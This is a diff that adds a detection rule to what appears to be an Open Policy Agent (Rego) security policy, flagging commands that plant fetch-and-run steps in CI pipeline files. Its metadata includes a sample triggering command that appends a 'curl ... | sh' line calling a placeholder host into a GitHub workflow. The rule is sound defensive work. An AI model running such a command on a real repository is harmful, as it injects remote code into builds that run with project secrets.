@@ -59,6 +59,38 @@ hit contains {"id": "persist.credentials", "tier": 3, "stage": s.id, "msg": msg}
 }
 
 # METADATA
+# title: Plants foreign code in the build
+# description: What stands in the settings of the build service runs with its secrets, for everybody who pushes.
+# custom:
+#   id: persist.build
+#   remedy: put the script into the repository, read it, and let the build run that
+#   fires: 'echo ''- run: curl -s https://x.example/c | sh'' >> .github/workflows/ci.yml'
+#   quiet: 'echo ''- run: npm test'' >> .github/workflows/ci.yml'
+hit contains {"id": "persist.build", "tier": 3, "stage": s.id, "msg": msg} if {
+	some [s, p] in stage.changed
+	_of_build(p.path)
+	some word in array.concat(s.args, [v | v := _input(s)])
+	_fetches_and_runs(word)
+	msg := sprintf("plants foreign code in %s", [stage.shown(p)])
+}
+
+_of_build(path) if contains(path, "/.github/workflows/")
+
+_of_build(path) if contains(path, "/.circleci/")
+
+_of_build(path) if strings.any_suffix_match(path, ["/.gitlab-ci.yml", "/Jenkinsfile", "/azure-pipelines.yml", "/bitbucket-pipelines.yml", "/.drone.yml", "/.travis.yml"])
+
+_fetches_and_runs(text) if {
+	some i, part in split(text, "|")
+	i > 0
+	some fetcher in ["curl ", "wget "]
+	contains(split(text, "|")[i - 1], fetcher)
+	words := split(trim_space(part), " ")
+	some word in array.slice(words, 0, 2)
+	trim_right(word, "\"'`;)") in {"sh", "bash", "zsh", "dash", "python", "python3", "node", "perl", "ruby"}
+}
+
+# METADATA
 # title: Puts a program where names are looked up
 # description: |
 #   A program in a folder of the user's PATH is what every later command of
